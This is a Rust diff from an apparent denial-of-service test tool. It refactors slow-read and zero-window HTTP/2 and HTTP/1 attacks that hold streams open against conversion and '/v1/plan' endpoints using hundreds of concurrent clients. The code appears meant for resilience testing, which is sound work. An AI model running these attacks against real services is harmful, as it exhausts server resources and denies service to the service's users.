@@ -13,8 +13,9 @@ use tokio::{
 
 use crate::{
     attacker::Attacker,
-    bodies, http1,
+    bodies,
     http2::{Http2, INITIAL_WINDOW, Scheme},
+    request::Request,
 };
 
 /// The limit of streams of one connection.
@@ -24,7 +25,7 @@ const CONVERSION: usize = 4 << 20;
 /// The pods of a plan, which take just less than the mebibyte from which bodies wait for a place.
 const PODS: usize = 4000;
 /// What the client's side buffers, where it reads little.
-const BUFFER: u32 = 4 << 10;
+pub(super) const BUFFER: u32 = 4 << 10;
 /// The pause after a refusal.
 const REFUSED: Duration = Duration::from_millis(50);
 const SECOND: Duration = Duration::from_secs(1);
@@ -32,11 +33,11 @@ const CONVERT: &str = "/convert?timeout=30s";
 
 /// Posts on all streams of a connection whose windows are closed, again wherever the server ends a stream. Each window
 /// stays closed, or opens by a byte every second.
-async fn hardly_take<S: AsyncRead + AsyncWrite + Unpin>(
+pub(super) async fn hardly_take<S: AsyncRead + AsyncWrite + Unpin>(
     attacker: &Attacker,
     io: S,
     scheme: Scheme,
-    (path, body): (&str, &[u8]),
+    request: &Request,
     opens: bool,
 ) -> Result<()> {
     let mut http2 = Http2::open(io, scheme, &[(INITIAL_WINDOW, 0)]).await?;
@@ -44,7 +45,7 @@ async fn hardly_take<S: AsyncRead + AsyncWrite + Unpin>(
     loop {
         if http2.open_streams() < STREAMS {
             attacker.requested(1);
-            if !http2.post(path, body).await? {
+            if !http2.send(request).await? {
                 attacker.answered(1);
                 sleep(REFUSED).await;
             }
@@ -59,7 +60,7 @@ async fn hardly_take<S: AsyncRead + AsyncWrite + Unpin>(
 }
 
 /// Posts twice on a connection, and then reads nothing, or a kilobyte every second.
-async fn hardly_read(
+pub(super) async fn hardly_read(
     attacker: &Attacker,
     mut io: impl AsyncRead + AsyncWrite + Unpin,
     request: &[u8],
@@ -84,22 +85,22 @@ async fn hardly_read(
 }
 
 pub(super) fn conversions_over_http2(attacker: &Attacker) {
-    let body = Arc::new(bodies::conversion(CONVERSION));
+    let request = Request::post(CONVERT, bodies::conversion(CONVERSION).as_bytes());
     attacker.clients(8, move |attacker, number| {
-        let body = body.clone();
+        let request = request.clone();
         async move {
             let tls = attacker.http2(number).await?;
-            hardly_take(&attacker, tls, Scheme::Https, (CONVERT, body.as_bytes()), number % 2 == 1).await
+            hardly_take(&attacker, tls, Scheme::Https, &request, number % 2 == 1).await
         }
     });
 }
 
 pub(super) fn conversions_over_http1(attacker: &Attacker) {
-    let request = Arc::new(http1::post(CONVERT, &bodies::conversion(CONVERSION)));
+    let request = Arc::new(Request::post(CONVERT, bodies::conversion(CONVERSION).as_bytes()).http1());
     attacker.clients(128, move |attacker, number| {
         let request = request.clone();
         async move {
-            let tcp = attacker.tcp_with(number, attacker.targets.webhook, Some(BUFFER)).await?;
+            let tcp = attacker.tcp_with(number, attacker.targets.served, Some(BUFFER)).await?;
             let tls = attacker.http1_on(tcp).await?;
             hardly_read(&attacker, tls, &request, number % 2 == 0).await
         }
@@ -107,18 +108,18 @@ pub(super) fn conversions_over_http1(attacker: &Attacker) {
 }
 
 pub(super) fn plans_over_http2(attacker: &Attacker) {
-    let body = Arc::new(bodies::state(PODS));
+    let request = Request::post("/v1/plan", bodies::state(PODS).as_bytes());
     attacker.clients(8, move |attacker, number| {
-        let body = body.clone();
+        let request = request.clone();
         async move {
             let tcp = attacker.tcp(number, attacker.targets.rest.context("no REST API")?).await?;
-            hardly_take(&attacker, tcp, Scheme::Http, ("/v1/plan", body.as_bytes()), number % 2 == 1).await
+            hardly_take(&attacker, tcp, Scheme::Http, &request, number % 2 == 1).await
         }
     });
 }
 
 pub(super) fn plans_over_http1(attacker: &Attacker) {
-    let request = Arc::new(http1::post("/v1/plan", &bodies::state(PODS)));
+    let request = Arc::new(Request::post("/v1/plan", bodies::state(PODS).as_bytes()).http1());
     attacker.clients(512, move |attacker, number| {
         let request = request.clone();
         async move {
